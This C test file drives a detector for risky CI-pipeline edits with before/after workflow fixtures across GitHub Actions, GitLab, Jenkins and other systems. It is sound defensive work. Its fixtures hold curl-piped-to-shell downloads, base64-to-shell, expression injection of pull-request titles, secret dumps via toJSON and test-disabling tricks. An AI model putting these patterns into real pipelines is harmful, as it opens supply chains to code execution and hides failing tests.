/* CI-*: what must fire, and what looks like it. */
#include "control_table.h"

#pragma GCC diagnostic ignored "-Wmissing-field-initializers"

#define WF ".github/workflows/ci.yml"
#define HEAD "name: ci\non:\n  push:\n    branches: [main]\n  pull_request:\npermissions:\n  contents: read\n"
#define JOB "jobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          persist-credentials: false\n      - run: npm ci\n"
#define BASE HEAD JOB "      - run: npm test\n      - run: npm run lint\n"
#define STEP(s) HEAD JOB "      - run: npm test\n      - run: npm run lint\n" s
#define SHA1 "1111111111111111111111111111111111111111"
#define SHA2 "2222222222222222222222222222222222222222"
#define G(name, before, after, want) { name, { { WF, before, after } }, want }

static const struct table_case github[] = {
	G("comment", BASE, "# hello\n" BASE, "quiet"),
	G("quotes", BASE, HEAD "jobs:\n  'test':\n    runs-on: \"ubuntu-latest\"\n    steps:\n    - {uses: actions/checkout@v4, with: {persist-credentials: false}}\n"
			       "    - run: |\n        npm ci\n    - run: 'npm test'\n    - run: npm   run lint # why\n", "quiet"),
	G("order of keys", BASE, "jobs:\n  test:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          persist-credentials: false\n      - run: npm ci\n"
				 "      - run: npm run lint\n      - run: npm test\n    runs-on: ubuntu-latest\n" HEAD, "quiet"),
	G("joined steps", BASE, HEAD JOB "      - run: |\n          npm test\n          npm run lint\n", "quiet"),
	G("joined by &&", BASE, HEAD JOB "      - run: npm test && npm run lint\n", "quiet"),
	G("moved to another job", BASE, HEAD JOB "      - run: npm test\n  style:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n"
					   "          persist-credentials: false\n      - run: npm run lint\n", "quiet"),
	G("job with pinned action", BASE, STEP("  docs:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n    steps:\n      - uses: a/b@" SHA1 " # v1\n"), "quiet"),
	G("bump of a tag", BASE, HEAD "jobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v5\n        with:\n          persist-credentials: false\n"
				      "      - run: npm ci\n      - run: npm test\n      - run: npm run lint\n", "quiet"),
	/* CI-TRIG */
	G("pull_request_target", BASE, "on: [pull_request_target]\npermissions:\n  contents: read\n" JOB "      - run: npm test\n      - run: npm run lint\n", "CI-TRIG:critical"),
	G("workflow_run as text", BASE, "on: workflow_run\npermissions: {contents: read}\n" JOB "      - run: npm test\n      - run: npm run lint\n", "CI-TRIG:critical"),
	G("issue_comment as map", BASE, "on:\n  push:\n    branches: [main]\n  pull_request:\n  issue_comment:\n    types: [created]\npermissions:\n  contents: read\n" JOB
					"      - run: npm test\n      - run: npm run lint\n", "CI-TRIG:critical"),
	G("push to every branch", BASE, "on:\n  push:\n  pull_request:\npermissions:\n  contents: read\n" JOB "      - run: npm test\n      - run: npm run lint\n", "CI-TRIG:high"),
	G("push to **", BASE, "on:\n  push:\n    branches: ['**']\n  pull_request:\npermissions:\n  contents: read\n" JOB "      - run: npm test\n      - run: npm run lint\n", "CI-TRIG:high"),
	G("target removed", "on: [pull_request_target, push, pull_request]\n" JOB "      - run: npm test\n", "on: [push, pull_request]\n" JOB "      - run: npm test\n", "quiet"),
	G("target re-indented", "on:\n  pull_request_target:\n" JOB "      - run: npm test\n", "on:\n    'pull_request_target':\n" JOB "      - run: npm test\n", "quiet"),
	G("branch renamed", BASE, "on:\n  push:\n    branches: [trunk]\n  pull_request:\npermissions:\n  contents: read\n" JOB "      - run: npm test\n      - run: npm run lint\n", "quiet"),
	/* CI-PERM */
	G("write gained", BASE, "on: {push: {branches: [main]}, pull_request: }\npermissions:\n  contents: write\n" JOB "      - run: npm test\n      - run: npm run lint\n", "CI-PERM:high"),
	G("write-all", BASE, "on: {push: {branches: [main]}, pull_request: }\npermissions: write-all\n" JOB "      - run: npm test\n      - run: npm run lint\n", "CI-PERM"),
	G("block removed", BASE, "on: {push: {branches: [main]}, pull_request: }\n" JOB "      - run: npm test\n      - run: npm run lint\n", "CI-PERM:high"),
	G("release job", BASE, STEP("  release:\n    permissions: {id-token: write}\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo hi\n"), "CI-PERM:critical"),
	G("moved to the job", "on: push\npermissions:\n  contents: write\n" JOB "      - run: npm test\n  b:\n    runs-on: ubuntu-latest\n    steps: []\n",
	  "on: push\npermissions: {}\n" JOB "      - run: npm test\n    permissions:\n      contents: write\n  b:\n    runs-on: ubuntu-latest\n    steps: []\n", "quiet"),
	G("narrowed from write-all", "on: push\npermissions: write-all\n" JOB, "on: push\npermissions:\n  contents: write\n" JOB, "quiet"),
	G("default to read", "on: push\n" JOB, "on: push\npermissions: read-all\n" JOB, "quiet"),
	/* CI-UNPIN */
	G("sha to tag", STEP("      - uses: a/b@" SHA1 "\n"), STEP("      - uses: a/b@v2\n"), "CI-UNPIN:high"),
	G("tag to branch", STEP("      - uses: a/b@v2\n"), STEP("      - uses: a/b@main\n"), "CI-UNPIN:high"),
	G("new and unpinned", BASE, STEP("      - uses: a/b@v2\n"), "CI-UNPIN:high"),
	G("owner", STEP("      - uses: a/b@" SHA1 "\n"), STEP("      - uses: c/b@" SHA1 "\n"), "CI-UNPIN:high"),
	G("comment stays", STEP("      - uses: a/b@" SHA1 " # v1.2.3\n"), STEP("      - uses: a/b@" SHA2 " # v1.2.3\n"), "CI-UNPIN:high"),
	G("comment moves", STEP("      - uses: a/b@" SHA1 " # v1.2.3\n"), STEP("      - uses: a/b@" SHA2 " # v1.2.4\n"), "quiet"),
	G("tag to sha", STEP("      - uses: a/b@v2\n"), STEP("      - uses: a/b@" SHA1 " # v2\n"), "quiet"),
	G("tag to tag", STEP("      - uses: a/b@v2\n"), STEP("      - uses: a/b@v3\n"), "quiet"),
	G("local action", BASE, STEP("      - uses: ./.github/actions/x\n"), "quiet"),
	G("image digest to tag", STEP("    container: node@sha256:1111111111111111111111111111111111111111111111111111111111111111\n"), STEP("    container: node:20\n"), "CI-UNPIN:high"),
	G("image bump", STEP("    container: node:18\n"), STEP("    container: node:20\n"), "quiet"),
	/* CI-INJ */
	G("title in a script", BASE, STEP("      - run: echo \"${{ github.event.pull_request.title }}\"\n"), "CI-INJ:critical"),
	G("head_ref", BASE, STEP("      - run: git checkout ${{ github.head_ref }}\n"), "CI-INJ:critical"),
	G("github-script", BASE, STEP("      - uses: actions/github-script@v7\n        with:\n          script: console.log(`${{ github.event.comment.body }}`)\n"), "CI-INJ:critical"),
	G("number", BASE, STEP("      - run: gh pr view ${{ github.event.pull_request.number }}\n"), "quiet"),
	G("in env", BASE, STEP("      - env:\n          T: ${{ github.event.pull_request.title }}\n        run: echo \"$T\"\n"), "quiet"),
	G("in if", BASE, STEP("      - if: contains(github.event.head_commit.message, 'x')\n        run: echo hi\n"), "quiet"),
	/* CI-SECRET */
	G("new secret", BASE, STEP("      - env:\n          T: ${{ secrets.DEPLOY_KEY }}\n        run: ./deploy\n"), "CI-SECRET:high"),
	G("inherit", BASE, STEP("  x:\n    uses: ./.github/workflows/y.yml\n    secrets: inherit\n"), "CI-SECRET:high"),
	G("toJSON", BASE, STEP("      - run: echo '${{ toJSON(secrets) }}'\n"), "CI-SECRET:high"),
	G("environment removed", STEP("    environment: prod\n    env: {A: \"${{ secrets.A }}\"}\n"), STEP("    env: {A: \"${{ secrets.A }}\"}\n"), "CI-SECRET:high"),
	G("token of the run", BASE, STEP("      - env:\n          T: ${{ secrets.GITHUB_TOKEN }}\n        run: ./x\n"), "quiet"),
	G("secret removed", STEP("    env: {A: \"${{ secrets.A }}\"}\n"), BASE, "quiet"),
	G("secret requoted", STEP("    env: {A: \"${{ secrets.A }}\"}\n"), STEP("    env:\n      A: ${{secrets.A}}\n"), "quiet"),
	/* CI-SOFT */
	G("|| true", BASE, HEAD JOB "      - run: npm test || true\n      - run: npm run lint\n", "CI-SOFT:high"),
	G("|| :", BASE, HEAD JOB "      - run: 'npm test || :'\n      - run: npm run lint\n", "CI-SOFT:high"),
	G("; true", BASE, HEAD JOB "      - run: npm test ; true\n      - run: npm run lint\n", "CI-SOFT:high"),
	G("|| { echo }", BASE, HEAD JOB "      - run: npm test || { echo bad; }\n      - run: npm run lint\n", "CI-SOFT:high"),
	G("set +e", BASE, HEAD JOB "      - run: |\n          set +e\n          npm test\n      - run: npm run lint\n", "CI-SOFT:high"),
	G("exit 0", BASE, HEAD JOB "      - run: |\n          npm test\n          exit 0\n      - run: npm run lint\n", "CI-SOFT:high"),
	G("continue-on-error", BASE, STEP("        continue-on-error: true\n"), "CI-SOFT:high"),
	G("continue-on-error of the job", BASE, STEP("    continue-on-error: true\n"), "CI-SOFT:high"),
	G("by an expression", BASE, STEP("    continue-on-error: ${{ matrix.experimental }}\n"), "CI-SOFT:medium"),
	G("if: false", BASE, STEP("        if: ${{ false }}\n"), "CI-SOFT:high CI-DROP:high"),
	G("no-verify", BASE, STEP("      - run: git commit --no-verify -m x\n"), "CI-SOFT:high"),
	G("cleanup || true", BASE, STEP("      - run: docker rm -f db || true\n"), "quiet"),
	G("|| { exit 1 }", BASE, HEAD JOB "      - run: npm test || { echo bad; exit 1; }\n      - run: npm run lint\n", "quiet"),
	G("soft removed", HEAD JOB "      - run: npm test || true\n      - run: npm run lint\n", BASE, "quiet"),
	G("in a string", BASE, STEP("      - run: echo 'never write npm test || true'\n"), "quiet"),
	G("in a comment", BASE, STEP("      - run: |\n          # npm test || true\n          echo hi\n"), "quiet"),
	/* CI-DROP */
	G("test step removed", BASE, HEAD JOB "      - run: npm run lint\n", "CI-DROP:high"),
	G("replaced by echo", BASE, HEAD JOB "      - run: echo npm test\n      - run: npm run lint\n", "CI-DROP:high"),
	G("commented out", BASE, HEAD JOB "      # - run: npm test\n      - run: npm run lint\n", "CI-DROP:high"),
	G("only by hand", BASE, "on: workflow_dispatch\npermissions:\n  contents: read\n" JOB "      - run: npm test\n      - run: npm run lint\n", "CI-DROP:high"),
	G("pull_request lost", BASE, "on:\n  push:\n    branches: [main]\npermissions:\n  contents: read\n" JOB "      - run: npm test\n      - run: npm run lint\n", "CI-DROP:high"),
	G("deleted", BASE, NULL, "CI-DROP:high"),
	G("paths-ignore", BASE, "on:\n  push:\n    branches: [main]\n  pull_request:\n    paths-ignore: ['src/**']\npermissions:\n  contents: read\n" JOB "      - run: npm test\n      - run: npm run lint\n",
	  "CI-DROP:high"),
	G("matrix", STEP("    strategy: {matrix: {os: [ubuntu, windows]}}\n"), STEP("    strategy: {matrix: {os: [ubuntu]}}\n"), "CI-DROP:high"),
	G("matrix moves on", STEP("    strategy: {matrix: {node: [18, 20]}}\n"), STEP("    strategy: {matrix: {node: [20, 22]}}\n"), "quiet"),
	G("matrix grows", STEP("    strategy: {matrix: {node: [18, 20]}}\n"), STEP("    strategy: {matrix: {node: [18, 20, 22]}}\n"), "quiet"),
	G("another runner of tests", BASE, HEAD JOB "      - run: npx vitest run\n      - run: npm run lint\n", "quiet"),
	G("deploy waits no more", STEP("  deploy:\n    needs: [test]\n    runs-on: ubuntu-latest\n    steps: []\n"), STEP("  deploy:\n    runs-on: ubuntu-latest\n    steps: []\n"), "CI-DROP:high"),
	G("job with an environment removed", STEP("  deploy:\n    needs: [test]\n    environment: prod\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n"
						  "          persist-credentials: false\n"), BASE, "CI-DROP:medium !CI-SECRET !CI-ENV"),
	G("waits for a job of another name", HEAD "jobs:\n  test:\n    steps: [{run: npm test}]\n  deploy:\n    needs: [test]\n    steps: []\n",
	  HEAD "jobs:\n  tests:\n    steps: [{run: npm test}]\n  deploy:\n    needs: [tests]\n    steps: []\n", "CI-DROP:medium"),
	G("nothing to do", BASE, STEP("      - run: git diff --quiet && exit 0\n"), "CI-SOFT:medium"),
	{ "moved to another file", { { WF, BASE, HEAD JOB "      - run: npm test\n" }, { ".github/workflows/lint.yml", NULL, HEAD "jobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm run lint\n" } },
	  "!CI-DROP" },
	{ "renamed", { { WF, BASE, NULL }, { ".github/workflows/main.yml", NULL, BASE } }, "quiet" },
	/* CI-HOST, CI-ENV, CI-CURL, CI-CACHE, CI-PROV, CI-OBF */
	G("self-hosted", BASE, STEP("  x:\n    runs-on: [self-hosted, linux]\n    steps: []\n"), "CI-HOST:high"),
	G("privileged", BASE, STEP("    container: {image: node:20, options: --privileged}\n"), "CI-HOST:high"),
	G("docker.sock", BASE, STEP("    container: {image: node:20, volumes: [/var/run/docker.sock:/var/run/docker.sock]}\n"), "CI-HOST:high"),
	G("another hosted one", BASE, STEP("  x:\n    runs-on: windows-latest\n    steps: []\n"), "quiet"),
	G("credentials kept", BASE, HEAD "jobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci\n      - run: npm test\n      - run: npm run lint\n",
	  "CI-ENV:high"),
	G("unsecure commands", BASE, STEP("    env:\n      ACTIONS_ALLOW_UNSECURE_COMMANDS: true\n"), "CI-ENV:high"),
	G("GITHUB_ENV", BASE, STEP("      - run: echo A=1 >> $GITHUB_ENV\n"), "CI-ENV:medium"),
	G("GITHUB_OUTPUT", BASE, STEP("      - run: echo A=1 >> $GITHUB_OUTPUT\n"), "quiet"),
	G("curl | sh", BASE, STEP("      - run: curl -sSf https://x.example/i.sh | sh\n"), "CI-CURL:high"),
	G("curl | sudo bash -s", BASE, STEP("      - run: curl -sSf https://x.example/i.sh | sudo bash -s -- -y\n"), "CI-CURL:high"),
	G("bash <(curl)", BASE, STEP("      - run: bash <(curl -s https://x.example/i.sh)\n"), "CI-CURL:high"),
	G("npm i -g", BASE, STEP("      - run: npm i -g thing\n"), "CI-CURL:medium"),
	G("curl behind a heredoc's word", BASE, STEP("      - run: |\n          cat <<EOF; curl -s https://x.example/i.sh | sh\n          x\n          EOF\n"),
	  "CI-CURL:high"),
	G("curl in what a shell is given", BASE, STEP("      - run: |\n          cat <<EOF | sh\n          curl -s https://x.example/i.sh | sh\n          EOF\n"),
	  "CI-CURL:high"),
	G("curl behind a quote in a text", BASE, STEP("      - run: |\n          cat <<E-F\n          '\n          E-F\n          curl -s https://x.example/i.sh | sh\n"),
	  "CI-CURL:high"),
	G("curl behind a quoted bracket", BASE, STEP("      - run: |\n          x=$(echo '(')\n          curl -s https://x.example/i.sh | sh\n"),
	  "CI-CURL:high"),
	G("curl behind nested quotes", BASE, STEP("      - run: |\n          x=\"$(echo \"'\")\"\n          curl -s https://x.example/i.sh | sh\n"),
	  "CI-CURL:high"),
	G("curl in a text", BASE, STEP("      - run: |\n          cat <<EOF > i.md\n          curl -s https://x.example/i.sh | sh\n          EOF\n"),
	  "quiet"),
	G("curl to a file", BASE, STEP("      - run: curl -o a.json https://x.example/a.json\n"), "quiet"),
	G("pinned", BASE, STEP("      - run: pip install black==24.1.0\n"), "quiet"),
	G("cache in a release", "on:\n  release:\n" JOB, "on:\n  release:\n" JOB "      - uses: actions/cache@v4\n", "CI-CACHE:medium"),
	G("cache elsewhere", BASE, STEP("      - uses: actions/cache@v4\n"), "quiet"),
	G("attest removed", STEP("      - uses: actions/attest-build-provenance@v1\n"), BASE, "CI-PROV:high"),
	G("codeql removed", STEP("      - uses: github/codeql-action/analyze@v3\n"), BASE, "CI-PROV:high"),
	G("attest bumped", STEP("      - uses: actions/attest-build-provenance@v1\n"), STEP("      - uses: actions/attest-build-provenance@v2\n"), "quiet"),
	G("base64 | sh", BASE, STEP("      - run: echo aGkK | base64 -d | sh\n"), "CI-OBF:high"),
	G("eval", BASE, STEP("      - run: eval \"$X\"\n"), "CI-OBF:high"),
	G("key of a variable", BASE, STEP("      - run: echo \"$KEY\" | base64 -d > key\n"), "CI-OBF:medium"),
	G("ssh-agent", BASE, STEP("      - run: eval \"$(ssh-agent -s)\"\n"), "quiet"),
};

#define GL ".gitlab-ci.yml"
#define GLB "stages: [test, deploy]\nunit:\n  stage: test\n  image: node:20\n  script:\n    - npm ci\n    - npm test\n"
#define V(name, path, before, after, want) { name, { { path, before, after } }, want }
static const struct table_case vendors[] = {
	V("gitlab order", GL, GLB, "unit:\n  script: ['npm ci', 'npm test']\n  image: \"node:20\"\n  stage: test\nstages:\n  - test\n  - deploy\n", "quiet"),
	V("gitlab allow_failure", GL, GLB, GLB "  allow_failure: true\n", "CI-SOFT:high"),
	V("gitlab manual test", GL, GLB, GLB "  when: manual\n", "CI-SOFT:high"),
	V("gitlab manual deploy", GL, GLB, GLB "push:\n  when: manual\n  script: [./upload.sh]\n", "quiet"),
	V("gitlab test dropped", GL, GLB, "stages: [test, deploy]\nunit:\n  stage: test\n  image: node:20\n  script:\n    - npm ci\n", "CI-DROP:high"),
	V("gitlab || true", GL, GLB, "stages: [test, deploy]\nunit:\n  stage: test\n  image: node:20\n  script:\n    - npm ci\n    - npm test || true\n", "CI-SOFT:high"),
	V("gitlab sast lost", GL, "include:\n  - template: Security/SAST.gitlab-ci.yml\n" GLB, GLB, "CI-PROV:high"),
	V("gitlab image", GL, GLB, "stages: [test, deploy]\nunit:\n  stage: test\n  image: evil/node:20\n  script:\n    - npm ci\n    - npm test\n", "CI-UNPIN:high"),
	V("gitlab curl", GL, GLB, GLB "    - curl https://x.example/a | bash\n", "CI-CURL:high"),
	V("circle orb", ".circleci/config.yml", "orbs:\n  a: x/a@1.2.3\njobs: {t: {steps: [run: npm test]}}\n", "orbs:\n  a: x/a@volatile\njobs: {t: {steps: [run: npm test]}}\n", "CI-UNPIN:high"),
	V("circle command", ".circleci/config.yml", "jobs: {t: {steps: [checkout, {run: npm test}]}}\n", "jobs: {t: {steps: [checkout, {run: {name: x, command: npm test || true}}]}}\n", "CI-SOFT:high"),
	V("circle same command", ".circleci/config.yml", "jobs: {t: {steps: [checkout, {run: npm test}]}}\n", "jobs: {t: {steps: [checkout, {run: {name: x, command: npm test}}]}}\n", "quiet"),
	V("circle workflow", ".circleci/config.yml", "jobs: {test: {steps: [{run: npm test}]}}\nworkflows: {w: {jobs: [test, build]}}\n",
	  "jobs: {test: {steps: [{run: npm test}]}}\nworkflows: {w: {jobs: [build]}}\n", "CI-DROP:high"),
	V("circle context", ".circleci/config.yml", "workflows: {w: {jobs: [test]}}\n", "workflows: {w: {jobs: [{test: {context: prod}}]}}\n", "CI-SECRET:high"),
	V("azure", "azure-pipelines.yml", "steps:\n- script: npm test\n", "steps:\n- script: npm test\n  continueOnError: true\n", "CI-SOFT:high"),
	V("azure order", "azure-pipelines.yml", "pool: {vmImage: x}\nsteps:\n- script: npm test\n", "steps:\n- script: npm test # c\npool:\n  vmImage: x\n", "quiet"),
	V("travis", ".travis.yml", "script:\n- npm test\n", "script:\n- npm test\nmatrix:\n  allow_failures:\n  - node_js: 20\n", "CI-SOFT:high"),
	V("travis dropped", ".travis.yml", "script:\n- npm run lint\n- npm test\n", "script: npm test\n", "CI-DROP:high"),
	V("bitbucket", "bitbucket-pipelines.yml", "pipelines: {default: [{step: {script: [npm test]}}]}\n", "pipelines: {default: [{step: {trigger: manual, script: [npm test]}}]}\n", "CI-SOFT:high"),
	V("drone", ".drone.yml", "kind: pipeline\nsteps:\n- name: test\n  image: go:1\n  commands: [go test ./...]\n", "kind: pipeline\nsteps:\n- name: test\n  image: go:1\n  failure: ignore\n  commands: [go test ./...]\n",
	  "CI-SOFT:high"),
	V("woodpecker secret", ".woodpecker.yml", "steps:\n  a:\n    commands: [make]\n", "steps:\n  a:\n    secrets: [prod_key]\n    commands: [make]\n", "CI-SECRET:high"),
	V("buildkite", ".buildkite/pipeline.yml", "steps:\n- command: make test\n", "steps:\n- command: make test\n  soft_fail: true\n", "CI-SOFT:high"),
	V("appveyor", "appveyor.yml", "test_script:\n- cmd: nmake test\n", "test_script:\n- cmd: echo skipped\n", "CI-DROP:high"),
	V("cirrus", ".cirrus.yml", "a_task:\n  test_script: make check\n", "a_task:\n  test_script: make check\n  allow_failures: true\n", "CI-SOFT:high"),
	V("tekton", ".tekton/p.yaml", "spec:\n  steps:\n  - image: a\n    script: make test\n", "spec:\n  steps:\n  - image: a\n    onError: continue\n    script: make test\n", "CI-SOFT:high"),
	V("buildspec", "buildspec.yml", "phases:\n  build:\n    commands:\n    - npm test\n", "phases:\n  build:\n    on-failure: CONTINUE\n    commands:\n    - npm test\n", "CI-SOFT:high"),
	V("jenkins", "Jenkinsfile", "stage('t') {\n  steps {\n    sh 'npm test'\n  }\n}\n", "stage('t') {\n  steps {\n    sh 'npm test || true'\n  }\n}\n", "CI-SOFT:high"),
	V("jenkins catchError", "Jenkinsfile", "stage('t') {\n    sh 'npm test'\n}\n", "stage('t') {\n  catchError {\n    sh 'npm test'\n  }\n}\n", "CI-SOFT:high"),
	V("jenkins dropped", "Jenkinsfile", "sh 'npm test'\nsh 'make all'\n", "// sh 'npm test'\nsh 'make all'\n", "CI-DROP:high"),
	V("jenkins indent", "Jenkinsfile", "stage('t') {\n    sh 'npm test'\n}\n", "stage(\"t\") {\n\n\tsh \"npm test\" // all\n}\n", "quiet"),
	V("tox", "tox.ini", "[testenv]\ncommands =\n  pytest\n  flake8\n", "[testenv]\ncommands =\n  pytest\n", "CI-DROP:high"),
	V("gitlab deploy waits no more", GL, GLB "push:\n  when: manual\n  script: [./upload.sh]\n", GLB "push:\n  script: [./upload.sh]\n", "CI-DROP:high"),
	V("unreadable", GL, GLB, "a: [\n", "GATE-PARSE:high"),
};

#define FLOORS "CI-ANY GATE-PROT GIT-DEL GIT-SIZE BLD-TESTCMD"
static void test_github(void **state)
{
	(void)state;
	table_run(github, sizeof(github) / sizeof(*github), FLOORS);
}

static void test_vendors(void **state)
{
	(void)state;
	table_run(vendors, sizeof(vendors) / sizeof(*vendors), FLOORS);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_github),
		cmocka_unit_test(test_vendors),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
